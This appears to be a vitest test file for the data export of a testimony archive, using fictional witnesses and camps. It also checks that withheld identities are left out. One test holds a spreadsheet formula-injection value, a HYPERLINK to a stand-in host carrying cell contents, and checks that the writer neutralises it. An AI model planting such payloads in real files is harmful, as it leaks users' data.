import { createHash } from 'node:crypto';
import { describe, expect, it } from 'vitest';
import { byteOrderMark, csvLines } from '../../src/core/export/csv.ts';
import { dataFileNames } from '../../src/core/export/files.ts';
import { buildDataExport, type DataExport } from '../../src/core/export/index.ts';
import { csvRecords, parseCsv } from './csv-reader.ts';
import { fixtureArchive } from './test-utils.ts';

/** Every file of an export, by name, each joined from the pieces it is streamed in. */
const filesOf = ({ pieces }: DataExport) => Object.fromEntries(dataFileNames.map((name) => [name, [...pieces(name)].join('')]));

const archive = fixtureArchive('core-archive');
const exported = buildDataExport(archive);
const files = filesOf(exported);

describe('the files of the data export', () => {
	it('makes exactly the files the routes of /data/ serve, and lists each once with its size and count', () => {
		expect(Object.keys(files)).toEqual(['archive.json', 'testimonies.csv', 'people.csv', 'camps.csv', 'places.csv', 'organizations.csv', 'sources.csv', 'detentions.csv', 'quotes.csv', 'citations.json', 'README.txt', 'SHA256SUMS']);
		expect(exported.list.map((f) => f.name)).toEqual(dataFileNames);
		for (const file of exported.list) {
			expect(file.bytes, file.name).toBe(Buffer.byteLength(files[file.name], 'utf8'));
			expect(file.description, file.name).not.toBe('');
		}
		expect(exported.list.map((f) => [f.name, f.count, f.unit, f.type])).toEqual([
			['archive.json', 18, 'records', 'application/json; charset=utf-8'],
			['testimonies.csv', 3, 'rows', 'text/csv; charset=utf-8; header=present'],
			['people.csv', 5, 'rows', 'text/csv; charset=utf-8; header=present'],
			['camps.csv', 2, 'rows', 'text/csv; charset=utf-8; header=present'],
			['places.csv', 3, 'rows', 'text/csv; charset=utf-8; header=present'],
			['organizations.csv', 2, 'rows', 'text/csv; charset=utf-8; header=present'],
			['sources.csv', 3, 'rows', 'text/csv; charset=utf-8; header=present'],
			['detentions.csv', 2, 'rows', 'text/csv; charset=utf-8; header=present'],
			['quotes.csv', 30, 'rows', 'text/csv; charset=utf-8; header=present'],
			['citations.json', 18, 'records', 'application/json; charset=utf-8'],
			['README.txt', undefined, undefined, 'text/plain; charset=utf-8'],
			['SHA256SUMS', 11, 'files', 'text/plain; charset=utf-8'],
		]);
	});

	it('refuses a file it does not make', () => {
		expect(() => exported.pieces('secrets.csv')).toThrow('The export has no file secrets.csv');
	});

	it('makes the same bytes each time a file is served', () => {
		expect(filesOf(exported)).toEqual(files);
	});
});

describe('archive.json', () => {
	const json = JSON.parse(files['archive.json']) as { archive: string; site: string; license: Record<string, string>; counts: Record<string, number>; records: Record<string, Record<string, unknown>[]>; detentions: Record<string, string>[] };

	it('is the very text JSON.stringify gives for the whole, though it is written a record at a time', () => {
		expect(files['archive.json']).toBe(`${JSON.stringify(json, null, 2)}\n`);
	});

	it('names the archive, its address, its licence and the number of records of each kind', () => {
		expect(json.archive).toBe('Xinjiang Detention Testimony Archive');
		expect(json.site).toBe('https://archive.test/');
		expect(json.license).toEqual({
			id: 'CC-BY-4.0',
			name: 'Creative Commons Attribution 4.0 International',
			url: 'https://creativecommons.org/licenses/by/4.0/legalcode',
			covers: "The archive’s own text and data (its records, summaries and the links between them, and the files made from them) are published under the Creative Commons Attribution 4.0 International licence (CC-BY-4.0).",
			excludes: 'Quoted passages and the texts of sources remain the words of their authors and publishers: the archive reproduces them for research and reference, and its licence does not cover them.',
		});
		expect(json.counts).toEqual({ testimonies: 3, people: 5, camps: 2, places: 3, organizations: 2, sources: 3 });
		expect(Object.fromEntries(Object.entries(json.records).map(([kind, list]) => [kind, list.map((r) => r.id)]))).toEqual({
			testimonies: ['gulnara-testova-on-her-brother', 'mirza-mockov-7th-street', 'testov-mockville-camp'],
			people: ['aidarbek-testov', 'gulnara-testova', 'mirza-mockov', 'mockville-camp-guard', 'vera-exampleva'],
			camps: ['7th-street-detention-centre', 'mockville-camp-no-1'],
			places: ['fictistan', 'mockville', 'north-testovia'],
			organizations: ['testwatch', 'testwatch-international'],
			sources: ['exampleland-letter', 'herald-interview', 'testwatch-report'],
		});
	});

	it('gives every field of a record, relations as ids, with its address and its text', () => {
		expect(json.records.places.find((r) => r.id === 'mockville')).toEqual({
			id: 'mockville',
			permalink: 'https://archive.test/places/mockville/',
			name: 'Mockville',
			aliases: [{ name: 'Mokvil' }],
			distinctFrom: [],
			kind: 'city',
			partOf: 'north-testovia',
			partOfInferred: true,
			disagreements: [],
			summary: 'A city of North Testovia with two places of detention.',
		});
		expect(json.records.testimonies.find((r) => r.id === 'gulnara-testova-on-her-brother')).toEqual({
			id: 'gulnara-testova-on-her-brother',
			permalink: 'https://archive.test/testimonies/gulnara-testova-on-her-brother/',
			title: 'Gulnara Testova on her brother’s return',
			kind: 'reported',
			witness: 'gulnara-testova',
			subjects: ['aidarbek-testov'],
			camps: [],
			places: [],
			organizations: ['testwatch-international'],
			experiences: ['family-separation', 'release'],
			durations: [],
			events: [{ date: { value: '2018-11', precision: 'month', inferred: false }, text: 'Came home to his sister.', source: 'exampleland-letter', quote: 'My brother Aidarbek Testov came home in November 2018.' }],
			quotes: [
				{ text: 'He was thin and he did not speak for a week.', source: 'exampleland-letter', speaker: 'gulnara-testova' },
				{ text: 'I wrote to Testwatch International every week while he was held.', source: 'exampleland-letter', speaker: 'gulnara-testova' },
			],
			contentWarnings: [],
			disagreements: [],
			summary: 'Gulnara Testova writes that her brother Aidarbek Testov came home thin and silent in November 2018.',
		});
		expect(json.records.sources.find((r) => r.id === 'exampleland-letter')!.text).toBe(
			'My brother Aidarbek Testov came home in November 2018. He was thin and he did not speak for a week.\n\nI wrote to Testwatch International every week while he was held. Nobody answered. I have lived in Exampleland since 2016.',
		);
		expect(files['archive.json']).not.toContain('"collection":');
	});
});

describe('the CSV files', () => {
	it('writes one row per record, in order of id, every row as wide as its header', () => {
		const expected: Record<string, string[]> = {
			'testimonies.csv': ['gulnara-testova-on-her-brother', 'mirza-mockov-7th-street', 'testov-mockville-camp'],
			'people.csv': ['aidarbek-testov', 'gulnara-testova', 'mirza-mockov', 'mockville-camp-guard', 'vera-exampleva'],
			'camps.csv': ['7th-street-detention-centre', 'mockville-camp-no-1'],
			'places.csv': ['fictistan', 'mockville', 'north-testovia'],
			'organizations.csv': ['testwatch', 'testwatch-international'],
			'sources.csv': ['exampleland-letter', 'herald-interview', 'testwatch-report'],
		};
		for (const [name, ids] of Object.entries(expected)) {
			const [header, ...rows] = parseCsv(files[name]);
			expect(header.slice(0, 2), name).toEqual(['id', 'permalink']);
			expect(rows.map((r) => r[0]), name).toEqual(ids);
			for (const row of rows) expect(row.length, `${name} ${row[0]}`).toBe(header.length);
			for (const row of rows) expect(row[1]).toBe(`https://archive.test/${name.slice(0, -4)}/${row[0]}/`);
		}
	});

	it('has a column per field, a group of fields split into columns, and the text last', () => {
		expect(parseCsv(files['people.csv'])[0]).toEqual(['id', 'permalink', 'name', 'named', 'aliases', 'distinctFrom', 'roles', 'ethnicity', 'citizenship', 'age', 'occupation', 'identity', 'relations', 'detentions', 'events', 'summary']);
		expect(parseCsv(files['camps.csv'])[0]).toEqual(['id', 'permalink', 'name', 'named', 'aliases', 'distinctFrom', 'kind', 'location.place', 'location.place.name', 'location.description', 'location.reading', 'location.source', 'location.quote', 'location.inferred', 'figures', 'disagreements', 'summary']);
		expect(parseCsv(files['places.csv'])[0]).toEqual(['id', 'permalink', 'name', 'aliases', 'distinctFrom', 'distinctFrom.names', 'kind', 'partOf', 'partOf.name', 'partOfSource', 'partOfInferred', 'disagreements', 'summary']);
		expect(parseCsv(files['sources.csv'])[0]).toEqual([
			'id', 'permalink', 'title', 'standfirst', 'byline', 'authors', 'publisher', 'originalPublisher', 'published', 'url', 'language',
			'capture.file', 'capture.sha256', 'capture.bytes', 'capture.encoding', 'capture.format', 'capture.added', 'capture.removed', 'related', 'notes', 'text',
		]);
	});

	it('writes statements as "value (source-id)", spellings with their language, and other groups as "field: value"', () => {
		const person = csvRecords(files['people.csv']).find((r) => r.id === 'aidarbek-testov')!;
		expect(person.aliases).toBe('Aydarbek Testow (testwatch-report) | Aydarbek Testow (herald-interview) | Айдарбек Тестов (testwatch-report; lang: kk)');
		expect(person.roles).toBe('former-detainee | witness');
		expect(person.ethnicity).toBe('Fictic (herald-interview) | fictic (testwatch-report)');
		expect(person.age).toBe('41 (herald-interview) | 42 (testwatch-report; note: In January 2020.)');
		expect(person.identity).toBe('Aydarbek Testow in the Testwatch report (testwatch-report; inferred; note: Same town, same camp, same months.)');
		expect(person.relations).toBe('person: gulnara-testova; relation: sister; source: herald-interview');
		// Dates the quote does not give say they are inferred, and how.
		expect(person.detentions).toBe(
			'camp: mockville-camp-no-1; start: 2018-03-05 (inferred; basis: the interview says he was taken from his home on 5 March 2018); end: 2018-11 (inferred; basis: his sister writes that he came home in November 2018); duration: eight months; source: herald-interview',
		);
		expect(person.events).toBe('date: 2018-03-05; text: Taken from his home in Mockville.; source: herald-interview | date: 2019-01; text: Left Fictistan.; source: herald-interview');
		expect(person.named).toBe('true');
		expect(person.citizenship).toBe('');
		const camp = csvRecords(files['camps.csv']).find((r) => r.id === 'mockville-camp-no-1')!;
		expect(camp['location.place']).toBe('mockville');
		expect(camp['location.place.name']).toBe('Mockville');
		expect(csvRecords(files['places.csv']).find((r) => r.id === 'mockville')).toMatchObject({ partOf: 'north-testovia', 'partOf.name': 'North Testovia' });
		expect(csvRecords(files['places.csv']).find((r) => r.id === 'fictistan')).toMatchObject({ partOf: '', 'partOf.name': '' });
		expect(camp['location.quote']).toBe('which stands on the road north of Mockville');
		expect(camp['location.inferred']).toBe('false');
		// The source's words and the archive's own, each in its column.
		expect(camp['location.description']).toBe('on the road north of Mockville');
		expect(camp['location.reading']).toBe('');
		const seventh = csvRecords(files['camps.csv']).find((r) => r.id === '7th-street-detention-centre')!;
		expect([seventh['location.description'], seventh['location.reading'], seventh['location.inferred']]).toEqual(['', '7th Street, Mockville', 'true']);
		expect(camp.figures).toBe('what: people held; value: three thousand; reading: 3,000; date: spring 2018; reportedBy: mockville-camp-guard; source: herald-interview | what: people held; value: 5,000; date: 2019-03; source: testwatch-report');
		const testimony = csvRecords(files['testimonies.csv']).find((r) => r.id === 'testov-mockville-camp')!;
		expect(testimony.disagreements).toBe('topic: Age; claims: 41 (herald-interview) / 42 (testwatch-report); note: The interview and the report are ten months apart.');
		expect(csvRecords(files['testimonies.csv']).find((r) => r.id === 'mirza-mockov-7th-street')!['period.start']).toBe('early 2018');
	});

	it('writes a source’s date with how it is known, its capture a column per field, and its text with its line breaks', () => {
		const letter = csvRecords(files['sources.csv']).find((r) => r.id === 'exampleland-letter')!;
		expect(letter.published).toBe('2019 (inferred; basis: inferred; note: The letter is undated; the page was first archived in 2019.)');
		expect(letter.authors).toBe('gulnara-testova');
		expect(letter['capture.sha256']).toBe('c00d7f19d9c81d4dd0a54f3d1e5fd1ac46405a6d089bd463c8504ba54703e32a');
		expect(letter['capture.bytes']).toBe('266');
		expect(letter.text).toBe(
			'My brother Aidarbek Testov came home in November 2018. He was thin and he did not speak for a week.\n\nI wrote to Testwatch International every week while he was held. Nobody answered. I have lived in Exampleland since 2016.',
		);
		expect(csvRecords(files['sources.csv']).find((r) => r.id === 'testwatch-report')!.related).toBe('source: herald-interview; relation: Interviews the same man a year later');
	});

	it('quotes a field holding a double quote, and gives it back whole', () => {
		expect(files['people.csv']).toContain('"Reporter (herald-interview; inferred; note: The interview is signed ""By Vera Exampleva"".)"');
		expect(csvRecords(files['people.csv']).find((r) => r.id === 'vera-exampleva')!.occupation).toBe('Reporter (herald-interview; inferred; note: The interview is signed "By Vera Exampleva".)');
	});
});

describe('SHA256SUMS', () => {
	it('gives, in name order, a line per other file that verifies it', () => {
		const lines = files.SHA256SUMS.split('\n');
		expect(lines.pop()).toBe('');
		expect(lines.map((l) => l.slice(66))).toEqual(['README.txt', 'archive.json', 'camps.csv', 'citations.json', 'detentions.csv', 'organizations.csv', 'people.csv', 'places.csv', 'quotes.csv', 'sources.csv', 'testimonies.csv']);
		for (const line of lines) {
			const match = /^([0-9a-f]{64}) {2}(\S+)$/.exec(line);
			expect(match, line).not.toBeNull();
			expect(createHash('sha256').update(files[match![2]], 'utf8').digest('hex'), match![2]).toBe(match![1]);
		}
	});
});

describe('README.txt', () => {
	const readme = files['README.txt'];
	/** The part of README.txt from a line to the next section heading. */
	const section = (start: string) => {
		const from = readme.indexOf(start);
		expect(from, start).toBeGreaterThanOrEqual(0);
		const rest = readme.slice(from + start.length);
		const next = rest.search(/\n(records\.\w+\[\]: |\S+\n-+\n)/);
		return next === -1 ? rest : rest.slice(0, next);
	};

	it('names every file, with the count of this export', () => {
		for (const name of dataFileNames) expect(readme, name).toContain(`\n  ${name}\n`);
		expect(section('Files\n-----\n')).toContain('  people.csv\n      One row per person: names and spellings, roles, what each source says of them, ties and detentions.\n      5 rows below the header.\n');
		expect(section('Files\n-----\n')).toContain('      18 records.\n');
	});

	it('names every column of every CSV file under its heading', () => {
		for (const name of ['testimonies.csv', 'people.csv', 'camps.csv', 'places.csv', 'organizations.csv', 'sources.csv', 'detentions.csv', 'quotes.csv']) {
			const part = section(`${name}\n${'-'.repeat(name.length)}\n`);
			for (const column of parseCsv(files[name])[0]) expect(part, `${name}: ${column}`).toContain(`\n  ${column}\n`);
		}
	});

	it('describes the fields of archive.json at any depth, and never the fields that say what is withheld', () => {
		const people = section('records.people[]: ');
		for (const path of ['id', 'permalink', 'aliases[].lang', 'relations[].person', 'detentions[].start.value', 'identity.inferred', 'summary']) expect(people, path).toContain(`\n  ${path}\n`);
		expect(people).not.toContain('\n  withhold');
		expect(section('records.camps[]: ')).not.toContain('\n  withholdLocation');
		expect(section('records.sources[]: ')).toContain('\n  capture.sha256\n');
	});
});

describe('what the export leaves out', () => {
	it('leaves a record out of every file when it is not given to the archive', () => {
		const without = filesOf(buildDataExport(fixtureArchive('core-archive', { edit: (records) => records.filter((r) => r.id !== 'mirza-mockov-7th-street') })));
		for (const [name, text] of Object.entries(without)) {
			expect(text, name).not.toContain('mirza-mockov-7th-street');
			expect(text, name).not.toContain('standing in the yard');
		}
		expect(parseCsv(without['testimonies.csv'])).toHaveLength(1 + 2);
		expect(parseCsv(without['quotes.csv'])).toHaveLength(1 + 28);
		expect(JSON.parse(without['archive.json']).counts.testimonies).toBe(2);
		expect(Object.keys(JSON.parse(without['citations.json']))).toHaveLength(17);
	});

	it('holds nothing the archive withholds, in any file', () => {
		const withheld = filesOf(buildDataExport(fixtureArchive('withheld')));
		const secrets = [
			'Secretname Hiddenova',
			'Sekretname Khiddenova',
			'Hidden Lane',
			'Secretvillage',
			'Her relatives still live in the district',
			'The exact address would identify the witness',
			'"withhold"',
			'publicName',
			'withholdLocation',
		];
		for (const [name, text] of Object.entries(withheld)) {
			for (const secret of secrets) expect(text.toLowerCase().includes(secret.toLowerCase()), `${name} has “${secret}”`).toBe(false);
		}
		const json = JSON.parse(withheld['archive.json']) as { records: Record<string, Record<string, unknown>[]> };
		expect(json.records.people).toEqual([
			{
				id: 'witness-a',
				permalink: 'https://archive.test/people/witness-a/',
				name: 'Witness A',
				named: false,
				aliases: [],
				distinctFrom: [],
				roles: ['former-detainee', 'witness'],
				ethnicity: [],
				citizenship: [],
				age: [],
				occupation: [],
				relations: [],
				detentions: [],
				events: [],
				summary: 'Witness A is a teacher who spoke to the reporter about eleven months in a camp.',
			},
		]);
		expect(json.records.camps[0].location).toBeUndefined();
		expect(csvRecords(withheld['testimonies.csv'])[0]).toMatchObject({ title: 'Witness A: eleven months in a school turned into a camp', witness: 'witness-a', camps: 'school-camp' });
		expect(csvRecords(withheld['camps.csv'])[0]).toMatchObject({ 'location.description': '', 'location.place': '' });
	});
});

describe('the CSV writer', () => {
	it('quotes commas, double quotes and line breaks, so that a reader gets the same fields back', () => {
		const rows = [
			['plain', 'with, comma', 'with "quotes"', 'two\nlines', ''],
			['“curly”', 'Қазақ', ' space ', 'a | b', 'crlf\r\ninside'],
		];
		const text = [...csvLines(rows)].join('');
		expect(text.split('\r\n')[0]).toBe(`${byteOrderMark}plain,"with, comma","with ""quotes""","two\nlines",`);
		expect(parseCsv(text)).toEqual(rows);
	});

	it('begins a file with the byte-order mark that tells a spreadsheet it is UTF-8, once', () => {
		const text = [...csvLines([['Қазақ']], [['ü']])].join('');
		expect(text).toBe('\uFEFFҚазақ\r\nü\r\n');
		expect(Buffer.from(text, 'utf8').subarray(0, 3)).toEqual(Buffer.from([0xef, 0xbb, 0xbf]));
	});

	it('writes an apostrophe before a cell a spreadsheet would run as a formula, and before nothing else', () => {
		const rows = [['=HYPERLINK("http://x.test/?"&A1,"click")', '+1', '-2', '@SUM(A1)', '\tx', '＝1', 'a=b', '2-3', "'quoted'", '']];
		expect(parseCsv([...csvLines(rows)].join(''))).toEqual([["'=HYPERLINK(\"http://x.test/?\"&A1,\"click\")", "'+1", "'-2", "'@SUM(A1)", "'\tx", "'＝1", 'a=b', '2-3', "'quoted'", '']]);
	});
});
